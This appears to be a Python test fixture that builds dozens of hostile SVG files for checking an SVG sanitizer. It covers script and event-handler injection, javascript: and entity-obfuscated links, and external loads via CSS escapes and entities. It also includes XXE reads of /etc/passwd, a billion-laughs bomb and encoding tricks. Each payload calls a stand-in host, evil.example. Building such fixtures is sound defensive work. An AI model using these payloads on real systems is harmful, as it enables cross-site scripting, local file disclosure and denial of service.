"""SVG files that try to run something, or to load something, when a browser opens them by their address.

Whatever runs sets the document's title, or `window.hacked`, or asks for `evil.example`.
"""

from __future__ import annotations

import gzip

RUN = "document.title='hacked';window.hacked=1;fetch('https://evil.example/x')"
EVIL = "https://evil.example/x"
_NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
_RECT = '<rect width="90" height="90" fill="red"/>'


def svg(inner: str, attributes: str = "", before: str = "") -> str:
    """An SVG with a square in it and something else."""
    return f'{before}<svg {_NS} viewBox="0 0 99 99" width="99" height="99" {attributes}>{_RECT}{inner}</svg>'


_TEXTS = {
    "script": svg(f"<script>{RUN}</script>"),
    "script in CDATA": svg(f"<script><![CDATA[{RUN}]]></script>"),
    "script of a data address": svg(f'<script href="data:text/javascript,{RUN}"/>'),
    "script from elsewhere": svg(f'<script xlink:href="{EVIL}.js"/>'),
    "script by a prefix": svg(f'<x:script xmlns:x="http://www.w3.org/2000/svg">{RUN}</x:script>'),
    "script of HTML": svg(f'<script xmlns="http://www.w3.org/1999/xhtml">{RUN}</script>'),
    "script of HTML by a prefix": svg(f'<h:script xmlns:h="http://www.w3.org/1999/xhtml">{RUN}</h:script>'),
    "script in metadata": svg(f"<metadata><script>{RUN}</script></metadata>"),
    "script in a note": svg(
        f'<metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><script>{RUN}</script></r:RDF></metadata>'
    ),
    "handler in a note": svg(
        f'<metadata><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><image href="x" onerror="{RUN}"/></r:RDF></metadata>'
    ),
    "handler of metadata": svg(f'<metadata onload="{RUN}"/>'),
    "style in metadata": svg(f"<metadata><style>*{{fill:url({EVIL}#a)}}</style></metadata>"),
    "script in title": svg(f"<title><script>{RUN}</script></title>"),
    "root of a prefix": f'<s:svg xmlns:s="http://www.w3.org/2000/svg"><s:script>{RUN}</s:script></s:svg>',
    "load": svg("", f'onload="{RUN}"'),
    "error": svg(f'<image href="x:" onerror="{RUN}"/>'),
    "begin": svg(f'<set attributeName="x" to="1" begin="0s" onbegin="{RUN}"/>'),
    "focus": svg(f'<a tabindex="0" autofocus="" onfocus="{RUN}"><rect width="9" height="9"/></a>'),
    "focus in": svg(f'<g onfocusin="{RUN}"/>', f'onfocusin="{RUN}" autofocus="" tabindex="1"'),
    "handler in capitals": svg("", f'ONLOAD="{RUN}" OnLoad="{RUN}"'),
    "handler of events": svg(
        f'<handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">{RUN}</handler>'
    ),
    "foreign object": svg(
        f'<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="{RUN}"/></body></foreignObject>'
    ),
    "frame": svg(
        f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="&lt;script>parent.{RUN}&lt;/script>"/></foreignObject>'
    ),
    "frame elsewhere": svg(f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}"/>'),
    "object": svg(f'<object xmlns="http://www.w3.org/1999/xhtml" data="{EVIL}"/>'),
    "embed": svg(f'<embed xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}"/>'),
    "refresh": svg(
        f'<meta xmlns="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={EVIL}"/>'
    ),
    "base": svg(
        '<base xmlns="http://www.w3.org/1999/xhtml" href="https://evil.example/"/><use href="x.svg#a"/>'
    ),
    "base of XML": svg('<use href="#a"/>', 'xml:base="https://evil.example/x.svg"'),
    "link to a script": svg(f'<a href="javascript:{RUN}"><rect width="99" height="99"/></a>'),
    "old link to a script": svg(f'<a xlink:href="javascript:{RUN}"><rect width="99" height="99"/></a>'),
    "link with a line end": svg(f'<a href=" java&#10;script:{RUN}"><rect width="99" height="99"/></a>'),
    "link by entities": svg(
        f'<a href="&#106;avascript&#58;{RUN}"><rect width="99" height="99"/></a><script>&#100;ocument.title="hacked"</script>'
    ),
    "link to data": svg(
        f'<a href="data:text/html,&lt;script>{RUN}&lt;/script>"><rect width="99" height="99"/></a>'
    ),
    "animated link": svg(
        f'<a href="#x"><animate attributeName="href" values="javascript:{RUN}"/><rect width="99" height="99"/></a>'
    ),
    "set link": svg(
        f'<a href="#x"><set attributeName="xlink:href" to="javascript:{RUN}"/><rect width="99" height="99"/></a>'
    ),
    "set handler": svg(f'<set attributeName="onmouseover" to="{RUN}"/>'),
    "animated style": svg(f'<animate attributeName="fill" values="url({EVIL}#x)"/>'),
    "animated motion": svg(f'<animateMotion path="M0 0"><mpath href="{EVIL}#x"/></animateMotion>'),
    "use of data": svg(
        f'<use href="data:image/svg+xml,&lt;svg id=&#39;x&#39; xmlns=&#39;http://www.w3.org/2000/svg&#39; onload=&#39;{RUN.replace(chr(39), "")}&#39;/>#x"/>'
    ),
    "use of another file": svg(f'<use href="{EVIL}.svg#x"/><use xlink:href="//evil.example/y.svg#x"/>'),
    "picture elsewhere": svg(
        f'<image href="{EVIL}.png" width="9" height="9"/><image xlink:href="//evil.example/y.png"/>'
    ),
    "picture in a filter": svg(
        f'<filter id="f"><feImage href="{EVIL}.png"/></filter><rect width="9" height="9" filter="url(#f)"/>'
    ),
    "picture that is a drawing": svg(
        f'<image href="data:image/svg+xml,&lt;svg xmlns=&#39;http://www.w3.org/2000/svg&#39;>&lt;image href=&#39;{EVIL}&#39;/>&lt;/svg>"/>'
    ),
    "style import": svg(f'<style>@import "{EVIL}.css"; @import url({EVIL}2.css);</style>'),
    "style import in CDATA": svg(f"<style><![CDATA[@import '{EVIL}.css';]]></style>"),
    "style import by an escape": svg(f"<style>@\\69mport '{EVIL}.css';</style>"),
    "style address": svg(f"<style>rect{{fill:url({EVIL}#a);background:URL('{EVIL}.png')}}</style>"),
    "style address by an escape": svg(
        f"<style>svg{{background:\\75rl({EVIL}.png)}}</style>", f'style="background:u\\72l({EVIL}.png)"'
    ),
    "style address after a comment": svg(
        f'<style>/*"*/svg{{background:url({EVIL}.png)}}/*"*/</style><style>a{{font-family:"/*"}} svg{{background:url({EVIL}.png)}} b{{font-family:"*/"}}</style>'
    ),
    "style image set": svg("", f"style=\"background-image:image-set('{EVIL}.png' 1x)\""),
    "style old image set": svg("", f'style="background-image:-webkit-image-set(url({EVIL}.png) 1x)"'),
    "style source": svg("", f"style=\"background:src('{EVIL}.png')\""),
    "style font": svg(
        f"<style>@font-face{{font-family:x;src:url({EVIL}.woff)}}text{{font-family:x}}</style><text>x</text>"
    ),
    "style variables": svg(f"<style>svg{{--x:url({EVIL}.png);background:var(--x)}}</style>"),
    "style nested": svg(f"<style>svg{{ &amp; rect {{ fill:red }} background:url({EVIL}.png) }}</style>"),
    "style media": svg(f"<style>@media all{{svg{{background:url({EVIL}.png)}}}}</style>"),
    "style of HTML": svg(
        f'<style xmlns="http://www.w3.org/1999/xhtml">svg{{background:url({EVIL}.png)}}</style>'
    ),
    "link to a style": svg(
        f'<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{EVIL}.css"/>'
    ),
    "attribute address": svg(
        f'<rect width="9" height="9" fill="url({EVIL}#a)" filter="url({EVIL}#b)" mask="url(//evil.example/c#d)"/>'
    ),
    "cursor": svg(f'<rect width="99" height="99" cursor="url({EVIL}.cur),auto"/>'),
    "style sheet of XML": svg("", before=f'<?xml-stylesheet href="{EVIL}.css"?>'),
    "style sheet of XML, data": svg(
        "", before='<?xml-stylesheet type="text/xsl" href="data:text/xml,%3Cxsl:stylesheet/%3E"?>'
    ),
    "entity": svg(
        "<e>&s;</e>",
        before=f"<!DOCTYPE svg [<!ENTITY s '<script xmlns=\"http://www.w3.org/2000/svg\">{RUN}</script>'>]>",
    ),
    "external entity": svg("&s;", before='<!DOCTYPE svg [<!ENTITY s SYSTEM "file:///etc/passwd">]>'),
    "external document type": svg("", before=f'<!DOCTYPE svg SYSTEM "{EVIL}.dtd">'),
    "parameter entity": svg("", before=f'<!DOCTYPE svg [<!ENTITY % p SYSTEM "{EVIL}.dtd"> %p;]>'),
    "attributes of a document type": svg("", before=f'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "{RUN}">]>'),
    "laughs": svg(
        "&e;",
        before="<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'><!ENTITY c '&b;&b;&b;&b;&b;&b;&b;&b;&b;'>"
        "<!ENTITY d '&c;&c;&c;&c;&c;&c;&c;&c;&c;'><!ENTITY e '&d;&d;&d;&d;&d;&d;&d;&d;&d;'>]>",
    ),
    "include": svg('<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>'),
    "no SVG": f'<html xmlns="http://www.w3.org/1999/xhtml"><head><script>{RUN}</script></head></html>',
    "page": f"<!doctype html><html><body><script>{RUN}</script></body></html>",
    "page and drawing": f"<!--<svg --><html><script>{RUN}</script></html>",
    "style sheet for XML": f'<x xmlns:s="http://www.w3.org/2000/svg"><s:svg onload="{RUN}"/></x>',
    "unfinished": f'<svg {_NS} onload="{RUN}">',
    "two roots": svg("") + svg(f"<script>{RUN}</script>"),
    "no namespace": f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    "wrong namespace": f'<svg xmlns="http://www.w3.org/2000/SVG"><script xmlns="http://www.w3.org/2000/svg">{RUN}</script></svg>',
    "animated use": svg(
        f'<use id="u"><set attributeName="href" to="data:image/svg+xml,x#x"/></use><animate href="#u" attributeName="href" to="{EVIL}.svg#x"/>'
    ),
    "discard": svg(f'<discard begin="0s" onend="{RUN}"/>'),
    "sound": svg(f'<audio xmlns="http://www.w3.org/1999/xhtml" src="{EVIL}" autoplay="" onerror="{RUN}"/>'),
    "uses of uses": svg(
        '<g id="a0"><rect width="9" height="9"/></g>'
        + "".join(f'<g id="a{n}">' + f'<use href="#a{n - 1}"/>' * 10 + "</g>" for n in range(1, 12))
    ),
    "chain of uses": svg(
        "".join(f'<g id="c{n}">' + f'<use xlink:href="#c{n + 1}"/>' * 2 + "</g>" for n in range(900))
    ),
    "deep": svg("<g>" * 5000 + f"<script>{RUN}</script>" + "</g>" * 5000),
}

#: By name: the bytes of a file.
HOSTILE: dict[str, bytes] = {name: text.encode() for name, text in _TEXTS.items()}
_DECLARED = svg(f"<script>{RUN}</script>", before='<?xml version="1.0" encoding="{}"?>')
HOSTILE |= {
    "UTF-16": _DECLARED.replace("{}", "utf-16").encode("utf-16"),
    "UTF-16, no mark": _DECLARED.replace("{}", "utf-16le").encode("utf-16-le"),
    "UTF-32": _DECLARED.replace("{}", "utf-32").encode("utf-32"),
    "UTF-7": _DECLARED.replace("{}", "utf-7").replace("<script>", "+ADw-script+AD4-").encode(),
    "Shift JIS": _DECLARED.replace("{}", "shift_jis").encode(),
    "Latin 1": _DECLARED.replace("{}", "iso-8859-1").replace("<script>", "<script>/*é*/").encode("latin-1"),
    "mark": b"\xef\xbb\xbf" + _TEXTS["script"].encode(),
    "NUL": b"\0" + _TEXTS["script"].encode(),
    "packed": gzip.compress(_TEXTS["script"].encode(), mtime=0),
    "empty": b"",
    "no text": bytes(range(256)),
}
